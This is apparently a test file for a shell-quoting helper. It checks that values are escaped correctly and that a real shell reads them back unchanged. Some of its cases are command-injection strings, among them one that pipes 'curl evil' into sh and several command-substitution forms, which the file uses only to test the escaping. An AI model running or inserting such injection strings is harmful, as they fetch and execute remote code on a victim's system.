import { execFileSync } from 'node:child_process';
import fc from 'fast-check';
import { shellWord } from '../../../lib/fields/shell-word';

test.each([
  ['arn:aws:kms:us-east-1:111122223333:key/mrk-1', 'arn:aws:kms:us-east-1:111122223333:key/mrk-1'],
  ['KeyType=A,B@C%D+E', 'KeyType=A,B@C%D+E'],
  ['', "''"],
  ['a b', "'a b'"],
  ["it's", "'it'\\''s'"],
  ['x;curl evil|sh', "'x;curl evil|sh'"],
  ['$(id)`id`${id}', "'$(id)`id`${id}'"],
  ['=ls', "'=ls'"],
  ['~root', "'~root'"],
  ['*', "'*'"],
  ['a\nb', "'a\nb'"],
])('%j is written %s', (value, word) => {
  expect(shellWord(value)).toBe(word);
});

test('a shell reads back what was written, whatever it is', () => {
  const texts = fc.string({ unit: 'binary' }).map((text) => text.replaceAll('\0', ''));
  const values = fc.sample(texts, { numRuns: 200, seed: 9 });
  const script = `printf '%s\\0' ${values.map(shellWord).join(' ')}`;
  expect(execFileSync('/bin/sh', ['-c', script], { encoding: 'utf8' }).split('\0').slice(0, -1)).toEqual(values);
});
